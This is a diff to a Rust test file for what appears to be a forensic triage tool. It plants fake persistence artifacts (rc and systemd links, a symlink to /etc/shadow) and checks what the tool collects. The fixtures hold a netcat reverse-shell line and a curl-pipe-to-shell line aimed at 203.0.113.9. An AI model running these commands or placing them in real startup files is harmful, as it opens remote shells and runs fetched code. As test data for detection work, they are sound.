@@ -119,6 +119,26 @@ fn debian_root() -> Target {
     // SysV init: the rc symlink and its target.
     write(r, "etc/init.d/evil", "#!/bin/sh\n/tmp/.x &\n");
     link(r, "../init.d/evil", "etc/rc2.d/S01evil");
+    // rc and systemd links to files outside every rule: followed inside the
+    // root and taken; a link to a secret does not smuggle it out.
+    write(
+        r,
+        "opt/evil/start",
+        "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n",
+    );
+    write(
+        r,
+        "opt/evil/evil.service",
+        "[Service]\nExecStart=/opt/evil/start\n",
+    );
+    write(r, "opt/evil/unrelated", "not linked from anywhere\n");
+    link(r, "/opt/evil/start", "etc/rc3.d/S99evil");
+    link(
+        r,
+        "../../../../opt/evil/evil.service",
+        "etc/systemd/system/multi-user.target.wants/evil.service",
+    );
+    link(r, "/etc/shadow", "etc/rc3.d/K01shadow");
     // Homes.
     write(r, "root/.bash_history", "curl http://203.0.113.9/x | sh\n");
     write(
@@ -240,6 +260,8 @@ fn triage_takes_exactly_what_a_responder_would() {
         "/etc/sudoers",
         "/etc/sudoers.d/90-backdoor",
         "/home/alice/.bashrc",
+        "/opt/evil/evil.service",
+        "/opt/evil/start",
         "/home/alice/.python_history",
         "/home/alice/.ssh/authorized_keys",
         "/root/.bash_history",
@@ -295,6 +317,16 @@ fn triage_takes_exactly_what_a_responder_would() {
     assert_eq!(rc.kind, EntryType::Symlink);
     assert_eq!(rc.link_target.as_deref(), Some("../init.d/evil"));
     assert_eq!(rc.rule.as_deref(), Some("persistence/sysv-init"));
+    assert_eq!(
+        recs["/opt/evil/start"].rule.as_deref(),
+        Some("persistence/sysv-rc-link-targets")
+    );
+    assert_eq!(
+        recs["/opt/evil/evil.service"].rule.as_deref(),
+        Some("persistence/systemd-enabled-targets")
+    );
+    assert!(!recs.contains_key("/opt/evil/unrelated"));
+    assert_eq!(recs["/etc/rc3.d/K01shadow"].kind, EntryType::Symlink);
     let wants = &recs["/etc/systemd/system/multi-user.target.wants/backdoor.service"];
     assert_eq!(
         wants.link_target.as_deref(),
@@ -405,6 +437,9 @@ fn metadata_sweep_records_everything_and_copies_nothing() {
     let t = debian_root();
     let (archive, recs) = capture(&t, &["--profile", "metadata-sweep"]);
     assert!(taken(&recs).is_empty());
+    // Secrets keep their metadata in the sweep.
+    assert_eq!(recs["/etc/shadow"].status, Status::MetadataOnly);
+    assert!(recs["/etc/shadow"].sha256.is_none());
     let bash = &recs["/usr/bin/bash"];
     assert_eq!(bash.status, Status::MetadataOnly);
     assert!(bash.sha256.is_none(), "not executable: no hash");
